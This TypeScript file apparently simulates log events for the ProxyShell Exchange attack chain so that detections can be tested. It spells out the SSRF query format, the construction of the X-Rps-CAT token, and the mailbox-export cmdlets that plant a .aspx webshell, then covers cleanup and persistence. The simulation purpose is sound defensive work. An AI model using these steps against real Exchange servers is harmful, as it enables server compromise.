// ProxyShell: CVE-2021-34473 (autodiscover.json '@' SSRF) + CVE-2021-34523 (PowerShell backend elevation via
// X-Rps-CAT) + CVE-2021-31207 (mailbox export writes a .aspx). Chain per Orange Tsai and PeterJson
// (autodiscover.xml for the LegacyDN -> /mapi/nspi for the SID -> /powershell?X-Rps-CAT= as the victim ->
// EWS draft carrying the encoded payload -> role assignment -> New-MailboxExportRequest to a web folder),
// cleanup with Remove-MailboxExportRequest (ZDI), PST-format '!BDN' shells in aspnet_client and python-requests
// access (Huntress, HvS-Consulting).
import type { SimEvent } from '../emit.js';
import { pstShell } from '../payloads.js';
import { rpsCmdlet } from '../benign-sparse.js';
import { guid, randomName } from '../rng.js';
import { attackerIp, clampTo, marker, req, SRC, type Scenario } from './common.js';

const CVES = ['CVE-2021-34473', 'CVE-2021-34523', 'CVE-2021-31207'];
const mark = marker('proxyshell', CVES);

export const proxyshell: Scenario = (c) => {
  const { w, r } = c;
  const ip = attackerIp(r);
  const ua = r.pick(['python-requests/2.26.0', 'python-requests/2.25.1']);
  // PoCs put a made-up address after '@' (e.g. 'evil.corp'); the exact value varies per tool
  const fake = `${randomName(r, 6, 'abcdefghijklmnopqrstuvwxyz')}.${r.pick(['corp', 'com', 'local'])}`;
  const victim = w.admins[0]!;
  const machine = `${w.netbios}\\${w.host}$`;
  const shellName = randomName(r, 16, 'abcdefghijklmnopqrstuvwxyz') + '.aspx';
  const key = r.pick(['exec_code', 'orangenb', 'gold8899']);
  const ev: SimEvent[] = [];
  let t = c.at;

  // The SSRF: cs-uri-stem '/autodiscover/autodiscover.json', query '@<fake>/<backend path>?...&Email=autodiscover/autodiscover.json%3F@<fake>'
  const ssrf = (step: string, stage: 'exploit-attempt' | 'exploited', bePath: string, beQuery: string, method: string, beUser: string, cves: string[]): void => {
    t += r.range(300, 3000);
    const query = `@${fake}${bePath}?${beQuery === '' ? '' : beQuery}&Email=autodiscover/autodiscover.json%3F@${fake}`;
    ev.push({
      kind: 'http', t,
      req: req(t, r, w, {
        // AnchorMailbox/RoutingHint of these rows are not in the write-ups: [inferred] from the explicit-logon path
        method, stem: '/autodiscover/autodiscover.json', query, user: '', ip, ua, status: 200, proto: 'Autodiscover',
        anchor: `Smtp~autodiscover/autodiscover.json?@${fake}`, routingHint: 'Smtp', reqBytes: r.range(300, 4000), respBytes: r.range(100, 20000),
        be: { stem: bePath, query: beQuery, user: beUser, status: 200 },
      }),
      mark: mark(step, stage, ip, SRC.orange, { cves, expect: { fe: `/autodiscover/autodiscover.json @${fake}${bePath}`, proxy: `@${fake}${bePath}`, be: bePath } }),
    });
  };

  ssrf('ssrf-autodiscover', 'exploit-attempt', '/autodiscover/autodiscover.xml', '', 'POST', machine, ['CVE-2021-34473']);
  ssrf('ssrf-mapi-nspi', 'exploited', '/mapi/nspi/', '', 'POST', machine, ['CVE-2021-34473']);
  // X-Rps-CAT carries a serialized token naming the victim (PeterJson); base64 text
  const cat = Buffer.from(`V\x01\x00T\x07Windows${victim.sid}${randomName(r, 24)}`, 'latin1').toString('base64').replace(/=+$/, '');
  const rps = (step: string): void => {
    ssrf(step, 'exploited', '/powershell/', `X-Rps-CAT=${cat}`, 'POST', victim.nt, ['CVE-2021-34473', 'CVE-2021-34523']);
    ev.push({
      kind: 'csv', t: t + 40, family: 'rps-http',
      rec: {
        StartTime: new Date(t).toISOString(), RequestId: guid(r), UrlHost: w.fqdn, UrlStem: '/powershell/', AuthenticationType: 'Kerberos',
        IsAuthenticated: 'true', AuthenticatedUser: victim.nt, ClientIpAddress: w.serverIp, ServerHostName: w.host, HttpStatus: '200',
        SubStatus: '0', ClientApplication: '', UserAgent: ua, UrlQuery: `?X-Rps-CAT=${cat}`,
        GenericInfo: 'OnEndRequest.End.ContentType=application/soap+xml charset UTF-8;S:ServiceCommonMetadata.HttpMethod=POST;',
      },
      mark: mark(step + '-rps-http', 'exploited', ip, SRC.peterjson, { cves: ['CVE-2021-34523'], expect: { row: 'X-Rps-CAT=' } }),
    });
  };
  rps('ssrf-powershell-session');

  // PeterJson: an email with the encoded payload is saved into the victim's Drafts through EWS
  ssrf('ssrf-ews-draft', 'exploited', '/EWS/exchange.asmx', '', 'POST', victim.nt, ['CVE-2021-34473']);
  const subject = randomName(r, 12, 'abcdefghijklmnopqrstuvwxyz');
  ev.push({
    kind: 'csv', t: t + 60, family: 'ews',
    rec: {
      RequestId: guid(r), MajorVersion: w.buildParts[0], MinorVersion: w.buildParts[1], BuildVersion: w.buildParts[2], RevisionVersion: w.buildParts[3],
      AuthenticationType: 'Kerberos', IsAuthenticated: 'true', AuthenticatedUser: victim.nt, UserAgent: ua, ClientIpAddress: ip,
      ServerHostName: w.host, FrontEndServer: w.fqdn, SoapAction: 'CreateItem', HttpStatus: '200', RequestSize: String(r.range(3000, 9000)),
      ResponseSize: '1180', CorrelationGuid: guid(r), PrimaryOrProxyServer: w.fqdn, TaskType: 'Foreground', GenericInfo: 'MessageDisposition=SaveOnly;',
    },
    mark: mark('ews-draft-payload', 'exploited', ip, SRC.peterjson, { cves: ['CVE-2021-34473'], context: true, expect: { row: 'CreateItem' } }),
  });

  // The cmdlets run through the hijacked PowerShell session (Orange Tsai, ZDI; research §4.2.2 for their text)
  const cmdlet = (step: string, stage: 'exploited' | 'persistence', name: string, params: string, expect: string, cves: string[]): void => {
    rps(step + '-transport');
    ev.push({
      kind: 'csv', t: t + 120, family: 'rps-cmdlet', rec: rpsCmdlet(w, r, victim, name, params),
      mark: mark(step, stage, ip, SRC.zdi, { cves, expect: { row: expect } }),
    });
  };
  cmdlet('role-mailbox-import-export', 'exploited', 'New-ManagementRoleAssignment', `-Role "Mailbox Import Export" -User "${victim.smtp}"`, 'Mailbox Import Export', ['CVE-2021-34523']);
  const unc = `\\\\127.0.0.1\\C$\\inetpub\\wwwroot\\aspnet_client\\${shellName}`;
  cmdlet('mailbox-export-to-aspx', 'persistence', 'New-MailboxExportRequest',
    `-Mailbox "${victim.smtp}" -IncludeFolders ("#Drafts#") -ContentFilter "(Subject -eq '${subject}')" -FilePath "${unc}"`,
    shellName, ['CVE-2021-31207']);
  const tExport = t;
  ev.push({
    kind: 'file', t: tExport + r.range(20, 90) * 1000, logical: `inetpub/wwwroot/aspnet_client/${shellName}`, content: pstShell(r, key),
    mark: mark('webshell-pst', 'persistence', ip, SRC.huntressProxyShell, { cves: ['CVE-2021-31207'], expect: { file: '!BDN' } }),
  });
  t = tExport + r.range(100, 200) * 1000;
  cmdlet('remove-export-request', 'persistence', 'Remove-MailboxExportRequest', `-Identity "${victim.smtp}\\MailboxExport" -Confirm "False"`, 'Remove-MailboxExportRequest', ['CVE-2021-31207']);

  // Huntress: python-requests talking to the new shell
  let ts = t + r.range(2, 20) * 60_000;
  const shellIp = r.chance(0.5) ? ip : attackerIp(r);
  for (let i = 0; i < 5; i++) {
    const tt = clampTo(c, ts);
    if (tt <= t) break;
    ev.push({
      kind: 'http', t: tt,
      req: req(tt, r, w, { method: 'POST', stem: `/aspnet_client/${shellName}`, query: '', user: '', ip: shellIp, ua, status: 200, proto: null, corr: false }),
      mark: mark('webshell-access', 'hands-on', shellIp, SRC.huntressProxyShell, { expect: { fe: `POST /aspnet_client/${shellName}` } }),
    });
    ts += r.range(5, 240) * 60_000;
  }

  // Huntress: an extra IIS virtual directory pointing into ProgramData as a hiding place
  const vdirMark = mark('iis-vdir-programdata', 'persistence', ip, SRC.huntressProxyShell, { expect: { file: 'C:\\ProgramData\\COM' } });
  return { events: ev, vdirs: [{ t: clampTo(c, ts), path: `/${randomName(r, 4, 'abcdefghijklmnopqrstuvwxyz')}`, physicalPath: 'C:\\ProgramData\\COM', mark: vdirMark }] };
};
